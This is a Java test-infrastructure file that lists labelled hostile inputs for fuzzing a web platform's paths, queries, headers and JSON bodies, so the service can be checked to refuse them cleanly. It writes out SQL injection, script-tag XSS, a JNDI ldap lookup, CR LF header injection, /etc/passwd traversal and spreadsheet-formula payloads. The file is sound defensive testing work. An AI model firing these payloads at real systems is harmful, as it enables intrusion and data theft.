package dev.hybridconf.testinfra.hostile;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * The platform's corpus of hostile input: what a careless client, a fuzzer or an attacker sends
 * in a path segment, a query parameter, a header or a JSON field. Each value has a label, so a
 * failing test names the value that broke it. Path and query values are raw request-target text
 * (already percent-encoded, sent as they are); header and JSON values are bytes, because some of
 * them are not valid UTF-8 on purpose.
 *
 * <p>A service may answer any of these with a 2xx (an unusual but valid name is still a name) or a
 * 4xx; never with a 5xx, never with anything but {@code application/problem+json} when it refuses.
 */
public final class HostileValues {

    /** A labelled value: {@code raw} is request-target text (path, query) or bytes (header, JSON). */
    public record Value(String label, byte[] raw) {

        public static Value of(String label, String raw) {
            return new Value(label, raw.getBytes(StandardCharsets.UTF_8));
        }

        public String text() {
            return new String(raw, StandardCharsets.ISO_8859_1);
        }

        @Override
        public String toString() {
            return label;
        }
    }

    /** Invalid UTF-8 as percent-escapes: each must be a 400, never a 500 (the escapes are from real incidents). */
    public static final List<String> INVALID_UTF8_ESCAPES = List.of(
            "%ED%A0%80", // a lone surrogate (U+D800) encoded as if it were a character
            "%FF", // a byte that never appears in UTF-8
            "%C3%28", // a lead byte followed by a non-continuation byte
            "%C0%AF", // an overlong encoding of '/'
            "%C0%AE%C0%AE", // an overlong encoding of ".."
            "%E2%82", // a truncated three-byte sequence
            "%F8%88%80%80%80"); // a five-byte sequence (not UTF-8 since 2003)

    private HostileValues() {
    }

    /** Values for one path segment (a path variable), already encoded for the request target. */
    public static List<Value> pathSegments() {
        List<Value> values = new ArrayList<>();
        INVALID_UTF8_ESCAPES.forEach(escape -> values.add(Value.of("invalid UTF-8 " + escape, escape)));
        values.add(Value.of("NUL", "a%00b"));
        values.add(Value.of("control characters", "a%07%1B%7Fb"));
        values.add(Value.of("CR LF", "a%0D%0ASet-Cookie:x=1"));
        values.add(Value.of("encoded slash", "a%2Fb"));
        values.add(Value.of("double-encoded slash", "a%252Fb"));
        values.add(Value.of("encoded backslash", "a%5Cb"));
        values.add(Value.of("dot-dot", ".."));
        values.add(Value.of("encoded dot-dot", "%2E%2E"));
        values.add(Value.of("dot", "."));
        values.add(Value.of("empty segment (//)", ""));
        values.add(Value.of("path parameter", "x;jsessionid=1"));
        values.add(Value.of("lone percent", "%"));
        values.add(Value.of("broken escape", "%G1"));
        values.add(Value.of("emoji", "%F0%9F%98%80"));
        values.add(Value.of("right-to-left override", "%E2%80%AEtxt.exe"));
        values.add(Value.of("SQL", "'%20OR%20'1'%3D'1"));
        values.add(Value.of("script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"));
        values.add(Value.of("number past int", "2147483648"));
        values.add(Value.of("negative", "-1"));
        values.add(Value.of("long", "a".repeat(2_000)));
        return values;
    }

    /** Values for one query parameter, already encoded for the request target. */
    public static List<Value> queryValues() {
        List<Value> values = new ArrayList<>();
        INVALID_UTF8_ESCAPES.forEach(escape -> values.add(Value.of("invalid UTF-8 " + escape, escape)));
        values.add(Value.of("NUL", "a%00b"));
        values.add(Value.of("control characters", "a%07%1B%7Fb"));
        values.add(Value.of("CR LF", "a%0D%0ASet-Cookie:x=1"));
        values.add(Value.of("lone percent", "%"));
        values.add(Value.of("broken escape", "%G1"));
        values.add(Value.of("empty", ""));
        values.add(Value.of("blank", "%20%20"));
        values.add(Value.of("emoji", "%F0%9F%98%80"));
        values.add(Value.of("right-to-left override", "%E2%80%AEevil"));
        values.add(Value.of("SQL", "'%20OR%201%3D1--"));
        values.add(Value.of("script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"));
        values.add(Value.of("path traversal", "..%2F..%2Fetc%2Fpasswd"));
        values.add(Value.of("number past long", "99999999999999999999999"));
        values.add(Value.of("negative", "-1"));
        values.add(Value.of("exponent", "1e309"));
        values.add(Value.of("NaN", "NaN"));
        values.add(Value.of("array-looking", "%5B%5D"));
        values.add(Value.of("object-looking", "%7B%7D"));
        values.add(Value.of("impossible date", "2026-02-30"));
        values.add(Value.of("long", "a".repeat(3_000)));
        return values;
    }

    /** Whole query strings (after the {@code ?}) that are broken in themselves. */
    public static List<Value> queryStrings() {
        List<Value> values = new ArrayList<>();
        INVALID_UTF8_ESCAPES.forEach(escape -> values.add(Value.of("invalid UTF-8 name " + escape, escape + "=1")));
        values.add(Value.of("only separators", "&&&=&"));
        values.add(Value.of("name without value", "a"));
        values.add(Value.of("many parameters", "p=1&".repeat(500)));
        return values;
    }

    /** Values for any header, as bytes: some are not ASCII, some not even UTF-8. */
    public static List<Value> headerValues() {
        List<Value> values = new ArrayList<>();
        values.add(new Value("UTF-8 emoji bytes", "\uD83D\uDE00\uD83C\uDF89".getBytes(StandardCharsets.UTF_8)));
        values.add(new Value("UTF-8 accented bytes", "Bogotá, Alcaldía".getBytes(StandardCharsets.UTF_8)));
        values.add(new Value("byte 0xFF", new byte[] {'a', (byte) 0xFF, 'b'}));
        values.add(new Value("lone surrogate bytes", new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}));
        values.add(new Value("control character", new byte[] {'a', 0x07, 'b'}));
        values.add(Value.of("empty", ""));
        values.add(Value.of("SQL", "' OR 1=1--"));
        values.add(Value.of("script", "<script>alert(1)</script>"));
        values.add(Value.of("JNDI lookup", "${jndi:ldap://example.org/a}"));
        values.add(Value.of("number past long", "99999999999999999999999"));
        values.add(Value.of("negative", "-1"));
        values.add(Value.of("long", "x".repeat(4_000)));
        return values;
    }

    /** Headers every endpoint receives with each of {@link #headerValues()}. */
    public static List<String> commonHeaders() {
        return List.of("Accept-Language", "Accept", "Accept-Charset", "If-Modified-Since", "If-None-Match", "Range",
                "Origin", "Cookie", "X-Forwarded-For", "X-Forwarded-Host", "Forwarded", "User-Agent");
    }

    /** JSON values for any field, as the raw bytes put where the field's value goes. */
    public static List<Value> jsonValues() {
        List<Value> values = new ArrayList<>();
        values.add(Value.of("NUL", "\"a\\u0000b\""));
        values.add(Value.of("control characters", "\"bell\\u0007 escape\\u001b[31m\""));
        values.add(Value.of("lone surrogate", "\"x\\ud800y\""));
        values.add(Value.of("right-to-left override", "\"\\u202Egnp.exe\""));
        values.add(Value.of("line break", "\"one\\ntwo\""));
        values.add(Value.of("emoji", "\"\uD83D\uDE00\""));
        values.add(Value.of("SQL", "\"'; DROP TABLE registrations; --\""));
        values.add(Value.of("script", "\"<script>alert(1)</script>\""));
        values.add(Value.of("template", "\"${jndi:ldap://example.org/a} {{7*7}}\""));
        values.add(Value.of("spreadsheet formula", "\"=HYPERLINK(\\\"http://example.org\\\")\""));
        values.add(Value.of("path traversal", "\"../../etc/passwd\""));
        values.add(Value.of("empty string", "\"\""));
        values.add(Value.of("blank string", "\"   \""));
        values.add(Value.of("long string", "\"" + "a".repeat(20_000) + "\""));
        values.add(Value.of("small number", "12"));
        values.add(Value.of("number past int", "2147483648"));
        values.add(Value.of("negative number", "-1"));
        values.add(Value.of("fraction", "0.5"));
        values.add(Value.of("number past double", "1e309"));
        values.add(Value.of("number past long", "99999999999999999999999"));
        values.add(Value.of("true", "true"));
        values.add(Value.of("null", "null"));
        values.add(Value.of("empty array", "[]"));
        values.add(Value.of("array of string", "[\"a\"]"));
        values.add(Value.of("empty object", "{}"));
        values.add(Value.of("object", "{\"a\":1}"));
        values.add(Value.of("impossible date", "\"2026-02-30\""));
        values.add(Value.of("impossible time", "\"2026-06-02T25:61:00Z\""));
        values.add(Value.of("unknown time zone", "\"Mars/Olympus_Mons\""));
        values.add(Value.of("number-like string", "\"2147483648\""));
        values.add(new Value("invalid UTF-8 bytes", concat("\"a", new byte[] {(byte) 0xFF, (byte) 0xFE}, "b\"")));
        values.add(new Value("surrogate as UTF-8 bytes", concat("\"a", new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, "b\"")));
        return values;
    }

    /** Whole request bodies sent where JSON is expected. */
    public static List<Value> jsonBodies() {
        List<Value> values = new ArrayList<>();
        values.add(Value.of("empty body", ""));
        values.add(Value.of("null", "null"));
        values.add(Value.of("array", "[]"));
        values.add(Value.of("string", "\"x\""));
        values.add(Value.of("number", "12"));
        values.add(Value.of("truncated object", "{\"a\":"));
        values.add(Value.of("trailing garbage", "{} {}"));
        values.add(Value.of("duplicate keys", "{\"a\":1,\"a\":2}"));
        values.add(Value.of("deep nesting", "[".repeat(5_000) + "]".repeat(5_000)));
        values.add(Value.of("huge number", "{\"a\":" + "9".repeat(5_000) + "}"));
        values.add(new Value("invalid UTF-8", new byte[] {'{', '"', (byte) 0xC3, (byte) 0x28, '"', ':', '1', '}'}));
        values.add(new Value("byte order mark", concat("", new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, "{}")));
        values.add(new Value("UTF-16", "{\"a\":\"b\"}".getBytes(StandardCharsets.UTF_16)));
        return values;
    }

    /** Methods no endpoint should accept; each must be refused with problem details (TRACE with 405 and {@code Allow}). */
    public static List<String> oddMethods() {
        return List.of("TRACE", "TRACK", "PROPFIND", "FOO");
    }

    /** A request target far beyond any server's request-line limit. */
    public static String hugeTarget(String path) {
        return path + "?q=" + "a".repeat(70_000);
    }

    /** A header far beyond any server's header limit. */
    public static Value hugeHeader() {
        return Value.of("huge header", "x".repeat(70_000));
    }

    private static byte[] concat(String before, byte[] middle, String after) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(before.getBytes(StandardCharsets.UTF_8));
        out.writeBytes(middle);
        out.writeBytes(after.getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }
}
